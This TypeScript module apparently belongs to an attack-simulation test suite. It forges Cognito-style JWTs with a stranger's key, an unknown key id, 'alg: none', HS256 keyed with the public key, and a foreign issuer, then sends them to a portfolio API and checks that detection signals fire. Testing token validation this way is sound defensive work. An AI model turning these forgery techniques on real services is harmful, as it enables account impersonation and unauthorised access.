// Forged tokens: everything right but the signature, in the ways that have worked elsewhere. The pool's public keys are public, so the forger has them.
import { createHmac, createPublicKey, randomUUID, type JsonWebKey } from "node:crypto";
import { COOKIE } from "../support/cookie-names";
import { type Claims, mintRs256, mintUnsigned, strangersKey } from "../support/mint-token";
import type { Attack, Attacked } from "./attack";
import { tally } from "./guess-password";
import { callerAt } from "./networks";

const ROUNDS = 4;
const LIFE_SECONDS = 300;

async function publicKey({ poolUrl, pool }: Attacked): Promise<{ readonly kid: string; readonly jwk: JsonWebKey }> {
  const answer = await fetch(`${poolUrl}/${pool.userPoolId}/.well-known/jwks.json`);
  const [jwk] = ((await answer.json()) as { keys: (JsonWebKey & { kid: string })[] }).keys;
  if (jwk === undefined) throw new Error("The pool publishes no key.");
  return { kid: jwk.kid, jwk };
}

const claimsNow = ({ pool }: Attacked, nowSeconds: number): Claims => ({
  sub: randomUUID(),
  iss: `https://cognito-idp.${pool.userPoolId.split("_")[0] ?? ""}.amazonaws.com/${pool.userPoolId}`,
  client_id: pool.clientId,
  origin_jti: randomUUID(),
  event_id: randomUUID(),
  token_use: "access",
  scope: "aws.cognito.signin.user.admin",
  auth_time: nowSeconds - 10,
  iat: nowSeconds - 10,
  exp: nowSeconds - 10 + LIFE_SECONDS,
  jti: randomUUID(),
  username: randomUUID(),
});

const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString("base64url");

/** HS256 with the public key's own text as the secret. */
function mintHs256(claims: Claims, kid: string, jwk: JsonWebKey): string {
  const pem = createPublicKey({ key: jwk, format: "jwk" }).export({ type: "spki", format: "pem" }).toString();
  const input = `${encode({ kid, alg: "HS256" })}.${encode(claims)}`;
  return `${input}.${createHmac("sha256", pem).update(input).digest("base64url")}`;
}

export const FORGED_TOKENS: Attack = {
  name: "forged-tokens",
  does: "tokens signed with a wrong key, an unknown key, none, the public key and for another issuer, from one network",
  raises: { signal: "token_failures", probe: "token_forgery", subject: "network" },
  strike: async (attacked, from) => {
    const [{ kid, jwk }, nowSeconds] = await Promise.all([publicKey(attacked), attacked.control.nowSeconds()]);
    const stranger = strangersKey(kid);
    const answers: string[] = [];
    for (let round = 0; round < ROUNDS; round += 1) {
      const claims = claimsNow(attacked, nowSeconds);
      const forged = [
        mintRs256(claims, stranger),
        mintRs256(claims, { ...stranger, kid: randomUUID() }),
        mintUnsigned(claims, "none", kid),
        mintHs256(claims, kid, jwk),
        mintRs256({ ...claims, iss: "https://cognito-idp.eu-central-1.amazonaws.com/eu-central-1_Attacker1" }, stranger),
      ];
      for (const token of forged) {
        const caller = callerAt(attacked, from, 1);
        caller.jar.plant(COOKIE.access, token);
        answers.push(String((await caller.call("GET", "/api/portfolio")).status));
      }
    }
    attacked.say(`${String(answers.length)} forged tokens at the portfolio: ${tally(answers)}.`);
  },
};
